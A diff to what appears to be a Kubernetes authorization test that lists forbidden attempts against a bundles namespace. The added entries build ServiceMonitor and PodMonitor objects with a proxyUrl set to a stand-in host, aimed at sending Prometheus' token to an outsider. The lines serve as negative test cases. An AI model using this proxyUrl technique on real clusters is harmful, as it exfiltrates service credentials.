@@ -287,6 +287,13 @@ function attacksByBundles({ hub, own, foreign }: SpokePlaces): Attempt[] {
       metadata: { labels: { "cupola.dev/hub": hub } },
     }),
     remove("somebody's ConfigMap", `${at(BUNDLES)}/somebodys`),
+    ...["ServiceMonitor", "PodMonitor"].map((kind) =>
+      create(
+        `a ${kind} that sends Prometheus' token to somebody`,
+        `/apis/monitoring.coreos.com/v1/namespaces/${BUNDLES}/${kind.toLowerCase()}s`,
+        named("monitoring.coreos.com/v1", kind, { spec: { endpoints: [{ proxyUrl: "http://192.0.2.1" }] } }),
+      ),
+    ),
     create("a Secret among bundles", SECRETS(BUNDLES), secretOf(hub)),
     create("a Service among bundles", `${NAMESPACES}/${BUNDLES}/services`, named("v1", "Service", { spec: {} })),
     create(
